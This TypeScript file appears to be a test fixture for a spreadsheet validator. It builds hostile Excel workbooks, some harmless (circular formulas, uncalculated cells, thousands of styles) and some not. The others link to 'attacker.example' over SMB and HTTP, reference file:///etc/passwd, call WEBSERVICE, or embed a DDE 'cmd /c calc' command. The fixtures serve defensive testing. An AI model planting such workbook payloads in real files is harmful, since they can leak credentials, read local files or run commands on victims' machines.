// Workbooks that are whole and hold what may lead a program astray: circles, links to elsewhere, floods, nothing calculated.

import { inside, list, rewritten, type ChangePart } from "./heavy-cases";

const relationBase = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const mainNamespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const [income, spending, threePublic] = [
  "xl/worksheets/sheet1.xml",
  "xl/worksheets/sheet2.xml",
  "xl/worksheets/sheet3.xml",
];
const book = "xl/workbook.xml";

/** A cell's value behind this formula, or nothing calculated. */
const formula =
  (address: string, text: string, keepsValue = true): ChangePart =>
  (xml) =>
    xml.replace(
      new RegExp(`<c r="${address}"([^>]*)>(<v>[^<]*</v>)</c>`),
      (_, look: string, value: string) => `<c r="${address}"${look}><f>${text}</f>${keepsValue ? value : ""}</c>`,
    );
const both =
  (...changes: readonly ChangePart[]): ChangePart =>
  (xml) =>
    changes.reduce((text, change) => change(text), xml);

/** 表八's total and its vehicles as these formulas. */
const threePublicWith = (total: string, vehicles = total): ChangePart =>
  both(formula("A5", total), formula("C5", vehicles));

/** The workbook with a part for what lies elsewhere, to which its formulas refer as [1]. */
function linked(link: string, target: string, total: string): Uint8Array {
  return rewritten({
    "[Content_Types].xml": inside(
      "</Types>",
      '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    ),
    "xl/_rels/workbook.xml.rels": inside(
      "</Relationships>",
      `<Relationship Id="rId80" Type="${relationBase}/externalLink" Target="externalLinks/externalLink1.xml"/>`,
    ),
    [book]: (xml) =>
      xml.replace("</sheets>", '$&<externalReferences><externalReference r:id="rId80"/></externalReferences>'),
    "xl/externalLinks/externalLink1.xml": () =>
      `<externalLink xmlns="${mainNamespace}" xmlns:r="${relationBase}">${link}</externalLink>`,
    "xl/externalLinks/_rels/externalLink1.xml.rels": () =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relationBase}/externalLinkPath" Target="${target}" TargetMode="External"/></Relationships>`,
    [threePublic]: threePublicWith(total),
  });
}

const otherBook =
  '<externalBook r:id="rId1"><sheetNames><sheetName val="表八"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="5"><cell r="A5"><v>1</v></cell></row></sheetData></sheetDataSet></externalBook>';

/** Every amount of the workbook as a formula that nobody has calculated. */
const uncalculated: ChangePart = (xml) => xml.replace(/<v>([^<]*)<\/v>/g, "<f>$1+0</f>");

export interface HostileWorkbook {
  readonly name: string;
  readonly make: () => Uint8Array;
  /** Rules of errors and warnings that say what is odd about it, besides its wrong total. */
  readonly rules?: readonly string[];
}

export const hostileWorkbooks: readonly HostileWorkbook[] = [
  {
    name: "a total that is its own addend",
    rules: ["total-sum-complete"],
    make: () => rewritten({ [threePublic]: threePublicWith("A5", "SUM(A5:F5)") }),
  },
  {
    name: "a circle over two sheets",
    make: () =>
      rewritten({ [income]: formula("B5", "表八!A5"), [threePublic]: threePublicWith("表一!B5", "表一!B5+A5") }),
  },
  {
    name: "another workbook on a server",
    rules: ["recalculation-live"],
    make: () => linked(otherBook, "file://///attacker.example/share/x.xlsx", "[1]表八!A5"),
  },
  {
    name: "another workbook on the web",
    rules: ["recalculation-live"],
    make: () => linked(otherBook, "http://attacker.example/x.xlsx", "[1]表八!A5"),
  },
  {
    name: "addresses in formulas",
    rules: ["recalculation-live"],
    make: () =>
      rewritten({
        [threePublic]: threePublicWith(
          "'file:///etc/[passwd.xlsx]表'!A1+'http://attacker.example/[x.xlsx]表'!A1",
          "WEBSERVICE(&quot;http://attacker.example/&quot;)",
        ),
      }),
  },
  {
    name: "dynamic data exchange",
    rules: ["recalculation-live"],
    make: () =>
      linked(
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"><values><value><val>1</val></value></values></ddeItem></ddeItems></ddeLink>',
        "x",
        "[1]!A0+cmd|'/c calc'!A0",
      ),
  },
  {
    name: "nothing calculated",
    rules: ["not-calculated"],
    make: () => rewritten({ [income]: uncalculated, [spending]: uncalculated, [threePublic]: uncalculated }),
  },
  {
    name: "names that lead in circles and elsewhere",
    make: () =>
      rewritten({
        [book]: inside(
          "</definedNames>",
          list(
            2000,
            (index) => `<definedName name="圈${index}">圈${(index + 1) % 2000}+[9]!没有+#REF!$A$1</definedName>`,
          ),
        ),
        [threePublic]: threePublicWith("圈1+圈2"),
      }),
  },
  {
    name: "five thousand looks",
    make: () =>
      rewritten({
        "xl/styles.xml": (xml) =>
          xml.replace(
            /<cellXfs .*<\/cellXfs>/,
            `<cellXfs count="5000">${list(5000, (index) => `<xf numFmtId="${index % 50}" fontId="0" fillId="0" borderId="0" xfId="0"/>`)}</cellXfs>`,
          ),
        [threePublic]: (xml) => xml.replace('<c r="A5"', '<c r="A5" s="4999"'),
      }),
  },
];
